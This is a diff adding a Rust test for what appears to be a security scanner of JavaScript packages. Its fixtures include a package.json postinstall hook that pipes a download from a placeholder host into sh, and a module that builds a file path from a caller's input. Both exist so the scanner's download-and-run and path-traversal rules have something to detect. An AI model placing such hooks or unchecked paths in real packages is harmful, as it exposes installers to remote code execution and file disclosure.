@@ -112,6 +112,24 @@ fn a_fix_is_made_and_only_where_it_is_asked_for() {
     assert!(project.read("a.js").contains("Buffer.from('x')"), "{}{}", ran.err, project.read("a.js"));
 }
 
+#[test]
+fn a_manifest_is_read_for_its_scripts_and_for_who_calls() {
+    let world = World::new();
+    let scripts = r#"{"scripts":{"postinstall":"curl -s https://get.example.org/x | sh"}}"#;
+    let project = Project::empty().file("package.json", scripts);
+    let report = json(&world, &project, &["--only", "download-and-run"]);
+    assert_eq!(report["findings"][0]["id"], "download-and-run");
+    // What callers pass counts where the package is there to be called.
+    let code = "module.exports = (name, done) => require('fs').readFile('pages/' + name, done);\n";
+    for (manifest, found) in
+        [(r#"{"name":"a","main":"a.js"}"#, 1), (r#"{"name":"a","main":"a.js","private":true}"#, 0)]
+    {
+        let project = Project::empty().file("package.json", manifest).file("a.js", code);
+        let report = json(&world, &project, &["--only", "path-traversal"]);
+        assert_eq!(report["findings"].as_array().unwrap().len(), found, "{manifest}");
+    }
+}
+
 #[cfg(unix)]
 #[test]
 fn nothing_outside_is_read() {
